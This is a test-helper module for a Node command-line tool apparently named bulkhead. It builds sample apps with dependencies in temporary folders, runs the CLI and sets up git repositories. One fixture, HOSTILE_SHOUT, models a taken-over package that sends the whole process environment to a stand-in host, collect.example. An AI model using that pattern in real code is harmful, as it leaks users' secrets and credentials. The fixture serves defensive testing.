// Small applications in temporary folders, and the built command line run on them as a process.

import { execFileSync, spawnSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach } from "vitest";

const BIN = fileURLToPath(new URL("../../bin/", import.meta.url));

if (!existsSync(join(BIN, "../dist/cli/main.js"))) throw new Error("Build first: npx tsc -b");

const folders: string[] = [];

afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

export const makeFolder = (): string => {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), "bulkhead-cli-")));
  folders.push(folder);
  return folder;
};

export type Files = Readonly<Record<string, string | object>>;

/** Text as it stands; objects as JSON. */
export const writeFiles = (folder: string, files: Files): void => {
  for (const [name, content] of Object.entries(files)) {
    const path = join(folder, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(
      path,
      typeof content === "string" ? content : JSON.stringify(content, undefined, 2),
    );
  }
};

const GREET =
  'const { shout } = require("shout");\nmodule.exports = () => shout(process.env.USER);\n';

/** An application that needs `greet`, which needs `shout`. */
const APP: Files = {
  "package.json": {
    name: "app",
    version: "1.0.0",
    main: "main.js",
    dependencies: { greet: "1.0.0" },
  },
  "main.js": 'console.log(require("greet")());\n',
  "node_modules/greet/package.json": {
    name: "greet",
    version: "1.0.0",
    dependencies: { shout: "2.0.0" },
  },
  "node_modules/greet/index.js": GREET,
  "node_modules/shout/package.json": { name: "shout", version: "2.0.0" },
  "node_modules/shout/index.js": "exports.shout = (text) => `${text}!`;\n",
};

/** `shout` as it would be after somebody took it over. */
export const HOSTILE_SHOUT =
  'exports.shout = (text) => {\n  fetch("https://collect.example/", { method: "POST", body: JSON.stringify(process.env) });\n  return `${text}!`;\n};\n';

export const makeApp = (files: Files = {}): string => {
  const folder = makeFolder();
  writeFiles(folder, { ...APP, ...files });
  return folder;
};

export interface Run {
  readonly exitCode: number | null;
  readonly stdout: string;
  readonly stderr: string;
}

export const run = (
  name: "bulkhead" | "policy",
  folder: string,
  args: readonly string[],
  environment: object = {},
): Run => {
  const { status, stdout, stderr } = spawnSync(
    process.execPath,
    [join(BIN, `${name}.js`), ...args],
    {
      cwd: folder,
      encoding: "utf8",
      env: { ...process.env, ...environment },
    },
  );
  return { exitCode: status, stdout, stderr };
};

/** The first code on stderr; what most tests of failures ask for. */
export const codeOf = ({ stderr }: Run): string | undefined => /^BULKHEAD_\w+/m.exec(stderr)?.[0];

export const read = (folder: string, file: string): string =>
  readFileSync(join(folder, file), "utf8");

/** Every file of a folder with its text, node_modules and .git apart. */
export const readAll = (folder: string): Readonly<Record<string, string>> => {
  const names = readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name).slice(folder.length + 1))
    .filter((name) => !/^(?:node_modules|\.git)\//.test(name));
  return Object.fromEntries(names.sort().map((name) => [name, read(folder, name)]));
};

const GIT_IDENTITY = {
  GIT_AUTHOR_NAME: "A",
  GIT_AUTHOR_EMAIL: "a@example.com",
  GIT_COMMITTER_NAME: "A",
  GIT_COMMITTER_EMAIL: "a@example.com",
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_CONFIG_SYSTEM: "/dev/null",
};

export const git = (folder: string, ...args: readonly string[]): string =>
  execFileSync("git", args, {
    cwd: folder,
    encoding: "utf8",
    env: { ...process.env, ...GIT_IDENTITY },
  }).trim();

/** Commits everything but node_modules. */
export const commitAll = (folder: string): string => {
  git(folder, "add", "--all");
  git(folder, "commit", "--quiet", "--allow-empty", "--message", "x");
  return git(folder, "rev-parse", "HEAD");
};

export const makeRepository = (folder: string): void => {
  git(folder, "init", "--quiet", "--initial-branch=main");
  writeFiles(folder, { ".gitignore": "node_modules/\npolicy-evidence.json\n" });
};
